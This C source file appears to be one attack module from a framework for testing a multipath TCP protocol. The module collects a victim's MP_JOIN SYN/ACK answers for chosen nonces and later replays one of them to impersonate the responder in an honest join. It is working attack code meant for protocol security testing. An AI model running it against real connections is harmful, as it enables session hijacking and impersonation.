/* SPDX-License-Identifier: MIT */
/*
 * AT-34: answers of a victim to joins are collected beforehand, D-35. The MAC
 * of a SYN/ACK covers two nonces, and the responder chose the second: who has
 * asked with nonce x and kept the answer can answer whoever asks with x later,
 * in the responder's name. Each question costs the attacker's host a SYN and a
 * RST; an honest SYN whose nonce it has no answer to passes.
 */
#include "atk_inside.h"
#include "atk_join.h"
#include "atk_opts.h"
#include "atk_table.h"
#include "mpx_tcp.h"

#include <string.h>

enum {
    FIRST_PORT = 20000,
    PORTS = 20000,
    NONCES = 65536, /* nonces are of 16 bits, else it takes too long */
    ASKING = 8,     /* at a time */
    KEPT_MAX = 64,
};
#define AGAIN                                                                  \
    UINT64_C(200000000) /* ns, until what was not answered is asked            \
                           again */

enum { PAIRS, ADDR_ID };
static const struct atk_param params[] = {
    [PAIRS] = {"pairs", ATK_P_COUNT, .initial = 1024, .min = 1, .max = NONCES},
    [ADDR_ID] = {"address-id", ATK_P_COUNT, .initial = 2, .max = 255},
    {.name = NULL},
};

struct answer {
    bool has;
    struct mpx_opt_join join;
};
struct question {
    struct atk_tcp tcp;
    uint32_t nonce;
    uint64_t at;
    bool open;
};
struct state {
    struct atk_handshakes handshakes;
    struct answer answer[NONCES];
    struct question asking[ASKING];
    unsigned next_port;
    uint32_t next; /* nonce */
    struct atk_inside kept[KEPT_MAX];
    unsigned n_kept;
};

/* ---- asking ---- */

static void ask_nonce(struct atk *a, struct state *st, struct question *q,
                      uint64_t now)
{
    const struct atk_handshake *h = &st->handshakes.v[0];
    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};

    atk_tcp_open_to(&q->tcp, a, &h->ends,
                    (uint16_t)(FIRST_PORT + st->next_port++ % PORTS));
    q->at = now;
    o.u.join.form = MPX_JOIN_SYN;
    o.u.join.addr_id = (uint8_t)atk_param(a, ADDR_ID);
    o.u.join.token = h->of[MPX_ROLE_R].token;
    o.u.join.token_len = h->profile->token_len;
    o.u.join.nonce = q->nonce;
    atk_tcp_send_opt(&q->tcp, a, MPX_TCP_SYN, &o, now);
    atk_count_join(a);
}

static void ask_next_nonce(struct atk *a, struct state *st, struct question *q,
                           uint64_t now)
{
    q->open = st->next < atk_param(a, PAIRS);
    if (!q->open)
        return;
    q->nonce = st->next++;
    ask_nonce(a, st, q, now);
}

/* Of the first connection it saw; also the timer. */
static void ask_nonces(struct atk *a, void *state, uint64_t now)
{
    struct state *st = state;

    if (!st->handshakes.n)
        return;
    for (unsigned i = 0; i < ASKING; i++) {
        struct question *q = &st->asking[i];

        if (!q->open)
            ask_next_nonce(a, st, q, now);
        else if (now >= q->at + AGAIN)
            ask_nonce(a, st, q, now);
    }
    atk_set_timer(a, now + AGAIN);
}

static void on_host_segment(struct atk *a, void *state,
                            const struct atk_arrival *seg, uint64_t now)
{
    struct state *st = state;
    struct mpx_opt_join j;

    for (unsigned i = 0; i < ASKING; i++) {
        struct question *q = &st->asking[i];

        if (!q->open || !atk_tcp_matches(&q->tcp, seg->flow) ||
            !atk_join_find(seg->hdr, seg->hdr_len, &j) ||
            !atk_tcp_on_synack(&q->tcp, seg->hdr))
            continue;
        atk_spoil(a, j.mac, MPX_MAC64_LEN);
        st->answer[q->nonce] = (struct answer){true, j};
        atk_tcp_send(&q->tcp, a, MPX_TCP_RST, NULL, NULL, 0, NULL, 0, now);
        ask_next_nonce(a, st, q, now);
    }
}

/* ---- answering ---- */

static struct atk_inside *find_kept(struct state *st,
                                    const struct atk_segment *s)
{
    for (unsigned i = 0; i < st->n_kept; i++)
        if (atk_tcp_receives(&st->kept[i].tcp, s))
            return &st->kept[i];
    return NULL;
}

/* @return whether it had an answer. */
static bool answer_join(struct atk *a, struct state *st,
                        const struct atk_segment *s,
                        const struct mpx_opt_join *syn, uint64_t now)
{
    const struct atk_handshake *h =
        atk_handshakes_find(&st->handshakes, syn->token);
    struct mpx_opt o = {.subtype = MPX_SUB_JOIN};
    struct atk_inside *in = &st->kept[st->n_kept];
    const struct answer *x;

    if (syn->nonce >= NONCES || !h)
        return false;
    x = &st->answer[syn->nonce];
    if (!x->has || x->join.key_id != syn->key_id ||
        !atk_has_room(a, st->n_kept, KEPT_MAX))
        return false;
    st->n_kept++;
    atk_tcp_accept(&in->tcp, a, s);
    atk_inside_start(in, h, MPX_ROLE_I);
    o.u.join = x->join;
    atk_tcp_send_opt(&in->tcp, a, MPX_TCP_SYN | MPX_TCP_ACK, &o, now);
    return true;
}

static enum atk_verdict on_segment(struct atk *a, void *state,
                                   const struct atk_segment *s, uint64_t now)
{
    struct state *st = state;
    struct atk_inside *in = find_kept(st, s);
    struct mpx_opt o;

    atk_handshakes_note(a, &st->handshakes, s);
    if (s->dir != 0)
        return ATK_PASS;
    if (in && !(s->flags & (MPX_TCP_SYN | MPX_TCP_RST)))
        atk_inside_take_kept(a, in, s, now);
    if (in)
        return ATK_DROPPED;
    return mpx_seg_kind_of(s->flags) == MPX_SEG_SYN &&
                   atk_opts_find(s, MPX_SUB_JOIN, &o) &&
                   answer_join(a, st, s, &o.u.join, now)
               ? ATK_DROPPED
               : ATK_PASS;
}

static void free_state(void *state)
{
    struct state *st = state;

    for (unsigned i = 0; i < ASKING; i++)
        atk_tcp_free(&st->asking[i].tcp);
    for (unsigned i = 0; i < st->n_kept; i++)
        atk_tcp_free(&st->kept[i].tcp);
}

const struct atk_ops atk_nonce_preplay = {
    .name = "preplay-nonce",
    .id = "AT-34",
    .does = "collects answers of a victim to joins, and uses one when an "
            "honest join has the same nonce",
    .source = "RFC 8684 section 3.2, D-35",
    .powers = ATK_READ | ATK_DROP | ATK_INJECT | ATK_HOST,
    .params = params,
    .spoils = true,
    .state_size = sizeof(struct state),
    .on_segment = on_segment,
    .on_start = ask_nonces,
    .on_host_segment = on_host_segment,
    .on_timer = ask_nonces,
    .free_state = free_state,
};
